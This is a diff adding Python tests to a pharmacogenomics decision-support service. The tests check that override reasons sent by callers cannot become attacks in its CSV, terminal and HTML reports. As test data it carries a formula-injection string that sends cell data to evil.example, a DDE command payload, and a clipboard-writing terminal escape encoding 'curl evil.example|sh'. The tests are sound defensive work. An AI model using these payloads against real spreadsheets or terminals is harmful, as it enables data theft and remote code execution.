@@ -208,3 +208,94 @@ def test_html_report_without_matplotlib_says_what_to_install(store, monkeypatch)
     monkeypatch.setattr(builtins, "__import__", no_matplotlib)
     with pytest.raises(RuntimeError, match=r"pgx-pain-cds\[report\]"):
         report_module.plots(build(store.engine, *OCTOBER))
+
+
+# -- issue 26, item 9: the report as a target ------------------------------------------------
+
+
+def _overridden_with(store: FeedbackStore, *reasons: dict) -> None:
+    """Cards issued in October, each overridden with one of ``reasons`` (as a caller sent)."""
+    from sqlalchemy import insert
+
+    with store.engine.begin() as conn:
+        conn.execute(
+            insert(card_log_table),
+            [
+                {
+                    "card_uuid": f"hostile-{i}",
+                    "issued_at": datetime(2026, 10, 2, tzinfo=UTC),
+                    "hook": "order-select",
+                    "service_id": "pgx-order-select",
+                    "drug": "codeine",
+                    "genes": "CYP2D6",
+                    "phenotype": "UM",
+                    "recommendation_id": "codeine-cyp2d6-um",
+                    "indicator": "critical",
+                    "knowledge_version": "v",
+                    "shown": True,
+                    "patient_hash": "p" * 64,
+                    "order_hash": f"{i:064d}",
+                }
+                for i in range(len(reasons))
+            ],
+        )
+    items = [
+        {
+            "card": f"hostile-{i}",
+            "outcome": "overridden",
+            "overrideReason": {"reason": reason},
+            "outcomeTimestamp": "2026-10-02T10:00:00Z",
+        }
+        for i, reason in enumerate(reasons)
+    ]
+    store.store("pgx-order-select", {"feedback": items})
+
+
+@pytest.fixture
+def empty_store(settings) -> FeedbackStore:
+    store = FeedbackStore(settings.database_url)
+    schema.upgrade(store.engine)
+    return store
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click for details")'
+
+
+def test_a_reason_code_never_becomes_a_spreadsheet_formula(empty_store, tmp_path):
+    _overridden_with(empty_store, {"code": FORMULA}, {"code": "+cmd|' /C calc'!A0"})
+    path = tmp_path / "report.csv"
+    write_csv(build(empty_store.engine, *OCTOBER), path)
+    cells = [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(c.startswith("'=HYPERLINK") or c.startswith("'+cmd") for c in cells)
+
+
+def test_terminal_escape_sequences_do_not_reach_the_terminal(empty_store):
+    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: write the clipboard
+    _overridden_with(
+        empty_store,
+        {"code": f"x{clipboard}"},
+        {"code": "y", "display": "\x1b[2J\x1b[31mcleared\u202e"},
+    )
+    table = text(build(empty_store.engine, *OCTOBER))
+    assert "\x1b" not in table and "\x07" not in table and "\u202e" not in table
+    assert "cleared" in table  # the words are still shown
+
+
+def test_math_text_in_a_reason_does_not_fail_the_html_page(empty_store):
+    """One reason holding `$\\undefinedcommand$` failed --html for the whole period."""
+    _overridden_with(
+        empty_store, {"code": "$\\undefinedcommand$"}, {"code": "z", "display": "$x^{$"}
+    )
+    page = html_page(build(empty_store.engine, *OCTOBER))
+    assert "$\\undefinedcommand$" in page and page.count("data:image/png;base64,") == 3
+
+
+def test_a_caller_cannot_rename_the_services_own_reasons(empty_store):
+    from cds_service.clinical.cards import OVERRIDE_REASONS
+
+    code, label = OVERRIDE_REASONS[0]
+    _overridden_with(empty_store, {"code": code, "display": "Alert is wrong, ignore it"})
+    report = build(empty_store.engine, *OCTOBER)
+    assert report.reason_label(code) == label
+    assert "Alert is wrong" not in text(report) and label in text(report)
